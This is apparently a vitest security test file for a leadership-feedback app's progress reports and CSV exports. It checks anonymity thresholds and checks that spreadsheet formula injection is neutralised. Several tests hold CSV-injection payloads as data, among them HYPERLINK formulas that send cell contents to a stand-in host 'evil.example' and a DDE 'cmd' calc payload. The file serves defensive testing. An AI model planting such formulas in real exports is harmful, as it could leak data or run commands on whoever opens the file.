import { afterEach, beforeEach, expect, test } from 'vitest';
import { defaultFramework } from '../../src/server/modules/frameworks/default-framework';
import { fiveStakeholders } from '../support/leader-fixture';
import type { TestApp } from '../support/test-app';
import { describeEachEngine } from '../support/test-database';
import {
  answersOf,
  answerThrough,
  appWithClock,
  closeRound,
  commit,
  type Json,
  openRound,
  openRoundOf,
  organization,
  practiced,
  type Setup,
  signedAnswers,
} from './adversary-kit';
import { csvRecords, exportOf, liveFormulasIn } from './export-kit';

/**
 * The leader reads their progress, its CSV and the printable report (the same JSON) looking for
 * figures on fewer than k raters, single answers or unreleased rounds; and someone plants text
 * that a spreadsheet would run as a formula in any CSV the app produces.
 */

describeEachEngine('progress, its CSV and formula injection', (engine) => {
  let testApp: TestApp;
  beforeEach(async () => {
    ({ testApp } = await appWithClock(engine));
  });
  afterEach(async () => {
    await testApp.dispose();
  });

  const progressOf = async (setup: Pick<Setup, 'leader' | 'cycle'>) =>
    ((await (await setup.leader.client.get(`/api/cycles/${setup.cycle.id}/progress`)).json()) as Json)
      .progress as Json;
  const progressCsvOf = async (setup: Pick<Setup, 'leader' | 'cycle'>) =>
    (await setup.leader.client.get(`/api/cycles/${setup.cycle.id}/progress.csv`)).text();

  /** A released listening round (four answered), two commitments, then a mini-survey. */
  async function listenedAndPracticing() {
    const setup = await openRound(testApp);
    for (const name of ['Ada', 'Ben', 'Cy', 'Dee'])
      await answerThrough(testApp, setup.urlOf(name), signedAnswers(4, name));
    await closeRound(setup);
    const commitmentIds = await commit(setup);
    return { ...setup, commitmentIds, listeningRoundId: setup.roundId };
  }

  test('attack: look for comments, names or single answers in the progress, the report and the CSV', async () => {
    const setup = await listenedAndPracticing();
    const survey = await openRoundOf(setup, 'mini_survey');
    for (const [index, name] of ['Ada', 'Ben', 'Cy', 'Max'].entries())
      await answerThrough(
        testApp,
        survey.urlOf(name),
        answersOf(name, () => [2, 1, -1, 3][index] ?? null),
      );
    await closeRound(survey);
    const responseIds = (await testApp.database.db.selectFrom('responses').select('id').execute()).map(
      (row) => row.id,
    );
    const json = JSON.stringify(await progressOf(setup));
    const csv = await progressCsvOf(setup);
    for (const body of [json, csv]) {
      for (const { name, email } of fiveStakeholders) {
        expect(body).not.toContain(name);
        expect(body).not.toContain(email);
      }
      expect(body).not.toContain('ask before deciding');
      for (const id of responseIds) expect(body).not.toContain(id);
    }
    // One row per figure (all commitments, then each commitment), never one per response.
    const rows = csvRecords(csv).filter((row) => row.round_id === survey.roundId);
    expect(rows.map((row) => row.subject).sort()).toEqual(['all commitments', ...practiced].sort());
  });

  test('attack: find a figure resting on fewer than k raters in the progress CSV', async () => {
    const setup = await listenedAndPracticing();
    const [first] = setup.commitmentIds;
    const survey = await openRoundOf(setup, 'mini_survey');
    // Everyone judges the first behavior; only Ada and Ben have seen enough of the second.
    for (const name of ['Ada', 'Ben', 'Cy', 'Dee'])
      await answerThrough(
        testApp,
        survey.urlOf(name),
        answersOf(name, (subject) => (subject === first ? 1 : ['Ada', 'Ben'].includes(name) ? -3 : null)),
      );
    await closeRound(survey);
    const rows = csvRecords(await progressCsvOf(setup));
    // The leader's own self-ratings are theirs to see; every other number must rest on k raters.
    const ownRating = (row: Record<string, string>) =>
      row.section === 'self_vs_others' && !row.status?.startsWith('others');
    const figures = rows.filter((row) => row.n !== '' && !ownRating(row));
    expect(figures.length).toBeGreaterThan(0);
    for (const row of figures) expect(Number(row.n), JSON.stringify(row)).toBeGreaterThanOrEqual(3);
    const second = rows.find((row) => row.subject === practiced[1]);
    expect(second).toMatchObject({
      n: '',
      mean: '',
      share_improved: '',
      status: 'hidden: fewer than k ratings',
    });
    // The pooled "all commitments" figure rests on the first behavior alone: the two -3s are nowhere.
    expect(rows.find((row) => row.subject === 'all commitments')).toMatchObject({ n: '4', mean: '1' });
  });

  test('attack: read an open mini-survey, or one closed below k, through progress and its CSV', async () => {
    const setup = await listenedAndPracticing();
    const tooFew = await openRoundOf(setup, 'mini_survey');
    // The same people who answered the listening round, but only k - 1 of them this time.
    for (const name of ['Ada', 'Ben'])
      await answerThrough(
        testApp,
        tooFew.urlOf(name),
        answersOf(name, () => -3),
      );
    await closeRound(tooFew);
    const open = await openRoundOf(setup, 'mini_survey');
    for (const name of ['Ada', 'Ben', 'Cy', 'Dee'])
      await answerThrough(
        testApp,
        open.urlOf(name),
        answersOf(name, () => 3),
      );
    const progress = await progressOf(setup);
    expect(progress.miniSurveys).toEqual([
      expect.objectContaining({ roundId: tooFew.roundId, released: false, overall: null, byCommitment: [] }),
    ]);
    const csv = await progressCsvOf(setup);
    expect(csv).not.toContain(open.roundId);
    const rows = csvRecords(csv).filter((row) => row.round_id === tooFew.roundId);
    expect(rows).toEqual([
      expect.objectContaining({ n: '', mean: '', status: 'not released: fewer than k answers' }),
    ]);
  });

  test("attack: plant a formula in a stakeholder's comment, to run in the leader's export CSV", async () => {
    const setup = await openRound(testApp);
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Read more")', '+1+cmd', '-2+3', '@SUM(1+1)'];
    for (const [index, name] of ['Ada', 'Ben', 'Cy', 'Dee'].entries())
      await answerThrough(testApp, setup.urlOf(name), writing(payloads[index] as string));
    await closeRound(setup);
    const files = await exportOf(setup.leader.client);
    expect(files.get('csv/round-comments.csv')).toContain('HYPERLINK');
    expect(liveFormulasIn(csvFilesOf(files))).toEqual([]);
  });

  test('attack: hide a formula after a semicolon, tab or line break, for spreadsheets that split there', async () => {
    const setup = await openRound(testApp);
    const payloads = [
      'Listen more;=HYPERLINK("http://evil.example","Read more")',
      "Listen more;=cmd|' /C calc'!A0",
      'Listen more;"=1+2"',
      'Listen more\t@SUM(1+1)',
      'Listen more.\n=1+2',
    ];
    for (const [index, name] of ['Ada', 'Ben', 'Cy', 'Dee', 'Max'].entries())
      await answerThrough(testApp, setup.urlOf(name), writing(payloads[index] as string));
    await closeRound(setup);
    const files = await exportOf(setup.leader.client);
    expect(files.get('csv/round-comments.csv')).toContain('calc');
    expect(liveFormulasIn(csvFilesOf(files))).toEqual([]);
  });

  test("attack: plant a formula in the leader's own words that reach the progress CSV and the export", async () => {
    const setup = await openRound(testApp);
    await setup.leader.client.post(`/api/workspaces/${setup.workspaceId}/stakeholders`, {
      name: '=HYPERLINK("http://evil.example","Ada")',
      relationshipGroup: 'peer',
    });
    for (const name of ['Ada', 'Ben', 'Cy', 'Dee'])
      await answerThrough(testApp, setup.urlOf(name), signedAnswers(4, name));
    await closeRound(setup);
    await commit(setup, ['=HYPERLINK("http://evil.example","ask first")', '-ask first;+1']);
    const survey = await openRoundOf(setup, 'mini_survey');
    for (const name of ['Ada', 'Ben', 'Cy'])
      await answerThrough(
        testApp,
        survey.urlOf(name),
        answersOf(name, () => 2),
      );
    await closeRound(survey);
    const files = csvFilesOf(await exportOf(setup.leader.client));
    files['progress.csv'] = await progressCsvOf(setup);
    expect(files['progress.csv']).toContain('HYPERLINK');
    expect(liveFormulasIn(files)).toEqual([]);
  });

  test("attack: an admin imports a framework whose behavior is a formula, to run it in a leader's progress CSV", async () => {
    const org = await organization(testApp, async (admin, workspaceId) => {
      const framework = structuredClone(defaultFramework);
      const competency = framework.competencies.find((c) => c.key === 'listening-with-empathy');
      if (!competency?.behaviors[0]) throw new Error('no behavior to plant in');
      competency.behaviors[0].text = '=HYPERLINK("http://evil.example","Listens")';
      const saved = await admin.put(`/api/workspaces/${workspaceId}/framework`, framework);
      expect(saved.status).toBeLessThan(300);
    });
    const round = await openRoundOf(org, 'listening');
    for (const name of ['Ada', 'Ben', 'Cy'])
      await answerThrough(testApp, round.urlOf(name), signedAnswers(4, name));
    await closeRound(round);
    const csv = await progressCsvOf(org);
    expect(csv).toContain('HYPERLINK');
    expect(liveFormulasIn({ 'progress.csv': csv })).toEqual([]);
  });
});

/** Every answer's text is the planted payload; ratings a middling 3. */
const writing = (payload: string) => (page: Json) =>
  Object.fromEntries(
    page.page.questions.map((question: Json) => [question.id, question.kind === 'rating' ? 3 : payload]),
  );

const csvFilesOf = (files: Map<string, string>) =>
  Object.fromEntries([...files].filter(([name]) => name.endsWith('.csv')));
